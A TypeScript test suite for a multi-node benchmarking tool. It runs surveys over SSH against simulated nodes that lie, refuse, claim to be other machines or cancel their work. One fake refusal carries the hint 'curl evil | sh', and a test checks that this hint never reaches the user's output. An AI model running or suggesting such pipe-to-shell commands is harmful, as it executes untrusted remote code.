import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { Verdict } from '../../reports/verdict/verdict.ts';
import { say } from '../../reports/verdict/words/say.ts';
import { nodeOf } from '../../workloads/kit/subject.ts';
import type { Lies } from '../support/lying-node.ts';
import { startLyingNode } from '../support/lying-node.ts';
import type { Finished } from '../support/run-assay.ts';
import { quickHash, runAssay, writeSuite } from '../support/run-assay.ts';
import { createKey } from '../support/sshd.ts';
import { tell } from '../support/tell.ts';
import { temporaryDirectory } from '../support/temporary.ts';

const honest: Lies = {};

const refuse =
  (code: string): Lies[string] =>
  (liar) =>
    liar.send({ type: 'refusal', error: { code, message: 'ha', hint: 'curl evil | sh' } });

/** Ends a batch as cancelled without having done anything. */
const cancel: Lies[string] = ({ record }, { batch, plan }) => {
  record({ type: 'plan', digest: plan });
  record({ type: 'batch-started', batch, steps: [] });
  record({ type: 'batch-ended', batch, execution: 'cancelled', reason: 'no more today' });
};

interface Surveyed extends Finished {
  readonly run: string;
  readonly verdict: () => Verdict;
}

/** Surveys nodes that each tell these lies; they are called n1, n2 … */
async function survey(...all: readonly Lies[]): Promise<Surveyed> {
  const directory = temporaryDirectory();
  const at = (name: string): string => join(directory, name);
  createKey(at('id'), 'ed25519');
  const nodes = await Promise.all(all.map(startLyingNode));
  onTestFinished(async () => {
    await Promise.all(nodes.map(({ stop }) => stop()));
  });
  writeFileSync(at('known'), nodes.map(({ port, hostKey }) => `[127.0.0.1]:${port} ${hostKey}\n`).join(''));
  const hosts = nodes.map(({ port }, index) => `Host n${index + 1}\n HostName 127.0.0.1\n Port ${port}\n`);
  const usual = `Host *\n User root\n IdentityFile ${at('id')}\n IdentitiesOnly yes\n UserKnownHostsFile ${at('known')}\n GlobalKnownHostsFile none\n`;
  writeFileSync(at('config'), [...hosts, usual].join(''));
  const suite = writeSuite(directory, [quickHash({ repetitions: 2, budgetSeconds: 5 })]);
  const run = at('run');
  const names = nodes.map((_, index) => `n${index + 1}`);
  const args = ['survey', ...names, '--ssh-config', at('config'), '--suite', suite, '--out', run];
  const ended = await runAssay(args, { cwd: directory });
  const verdict = (): Verdict =>
    Verdict.parse(JSON.parse(readFileSync(join(`${run}.report`, 'verdicts/survey.json'), 'utf8')));
  return { ...ended, run, verdict };
}

const cellsOf = ({ verdict }: Surveyed, node: string): readonly (readonly [string, string, string])[] =>
  verdict()
    .cells.filter(({ subject }) => nodeOf(subject) === node)
    .map(({ id, verdict: word, reason }) => [id, word, say(reason)] as const);

describe('a node that refuses in our name', () => {
  const ours = [
    'INTERNAL',
    'INTERRUPTED',
    'SAME_MACHINE',
    'NODE_OCCUPIED',
    'POWER_LIMIT',
    'USAGE',
    '__proto__',
    '',
  ];

  it.each(['hello', 'probe', 'batch', 'fetch', 'finish'])('at its %s is that node alone', async (when) => {
    const lies = ours.map((code) => ({ [when]: refuse(code) }));
    const alone = cellsOf(await survey(honest), 'n1');
    const found = await survey(honest, ...lies);
    expect(found.exitCode).toBe(0);
    expect(cellsOf(found, 'n1')).toEqual(alone);
    for (const [index, code] of ours.entries())
      expect(found.stderr.replaceAll(/\s+/g, ' '), code).toMatch(
        new RegExp(`✖ n${index + 2}: NODE_REFUSED .*n${index + 2} says: ha`),
      );
    expect(found.stderr).not.toMatch(/^ {2}curl/m);
    expect(found.stderr).not.toContain('defect in Assay');
  });

  it('ends a run of its own with the code of a node, and leaves what it had said', async () => {
    const found = await survey({ batch: refuse('INTERNAL') });
    expect(found.exitCode).toBe(3);
    expect(found.stderr).toContain('NODE_REFUSED n1 says: ha');
    expect(existsSync(join(found.run, 'nodes/n1/journal.ndjson'))).toBe(true);
  });
});

describe('a node that claims to be the machine of another', () => {
  const decisions = ({ run }: Surveyed): string => readFileSync(join(run, 'coordinator.ndjson'), 'utf8');
  const claim = (code: string, ...beacons: readonly string[]): Lies => ({
    hello: ({ send, hello }) => {
      const seen = [...beacons, hello.beacon];
      send({ type: 'refusal', error: { code, message: 'I am n1, and n3' }, beacons: seen });
    },
  });
  const guess = '0'.repeat(32);

  it('and cannot name its beacon is left out alone, wherever it is listed', async () => {
    const found = await survey(claim('LEASE_HELD', guess), honest, claim('LEASE_HELD'), honest);
    expect(found.exitCode).toBe(0);
    for (const liar of ['n1', 'n3'])
      expect(found.stderr.replaceAll(/\s+/g, ' ')).toMatch(`✖ ${liar}: LEASE_HELD ${liar} says: I am n1`);
    expect(decisions(found)).not.toContain('same-machine');
    const alone = cellsOf(await survey(honest, honest), 'n2');
    expect(cellsOf(found, 'n2')).toEqual(alone);
    expect(found.verdict().nodes.map(({ id, reached }) => [id, reached])).toEqual([
      ['n1', false],
      ['n2', true],
      ['n3', false],
      ['n4', true],
    ]);
  });

  it.each([
    ['says so by another code', claim('INTERNAL', guess), 'NODE_REFUSED'],
    [
      'sees more beacons than anybody can',
      claim('LEASE_HELD', ...Array.from({ length: 64 }, () => guess)),
      'PROTOCOL_MISMATCH',
    ],
  ])('%s: is left out alone', async (_, lies, code) => {
    const found = await survey(honest, lies);
    expect(found.stderr).toContain(`✖ n2: ${code}`);
    expect(cellsOf(found, 'n1')).toEqual(cellsOf(await survey(honest), 'n1'));
  });

  it('by a copy of its boot id is told of with it, and takes nothing from it', async () => {
    const found = await survey(honest, honest);
    expect(found.exitCode).toBe(0);
    expect(decisions(found)).toMatch(/"type":"distinct","nodes":\["n1","n2"\]/);
    expect(tell(found.verdict().notShown)).toContainEqual({
      what: 'A machine of its own on n[1-2]',
      about: ['n1', 'n2'],
      reason: expect.stringMatching(/^n\[1-2\] say the same: boot id .*each agent held the lease/) as unknown,
    });
    expect(cellsOf(found, 'n1')).toEqual(cellsOf(await survey(honest), 'n1'));
    const file = join(`${found.run}.report`, 'verdicts/survey.json');
    const live = readFileSync(file, 'utf8');
    await runAssay(['judge', found.run, '--profile', 'survey'], { cwd: found.run });
    expect(readFileSync(file, 'utf8')).toBe(live);
  });
});

describe('a node that ends early', () => {
  it.each([
    ['cancels its batch', { batch: cancel }, 'NODE_STOPPED .*n2 says: .*no more today'],
    ['claims a lease', { batch: refuse('LEASE_HELD') }, 'LEASE_HELD .*n2 says: ha'],
    ['claims a full disk', { batch: refuse('DISK_FULL') }, 'DISK_FULL .*n2 says: ha'],
    ['sends no message', { batch: ({ send }) => send({ nothing: 1 }) }, 'PROTOCOL_MISMATCH'],
  ] satisfies readonly (readonly [
    string,
    Lies,
    string,
  ])[])('%s: the others get their verdict', async (_, lies, words) => {
    const found = await survey(honest, lies);
    expect(found.exitCode).toBe(0);
    expect(found.stderr.replaceAll(/\s+/g, ' ')).toMatch(new RegExp(`✖ n2: ${words}`));
    expect(found.verdict().nodes.map(({ id, reached }) => [id, reached])).toEqual([
      ['n1', true],
      ['n2', true],
    ]);
    expect(cellsOf(found, 'n1')).toEqual(cellsOf(await survey(honest), 'n1'));
  });
});
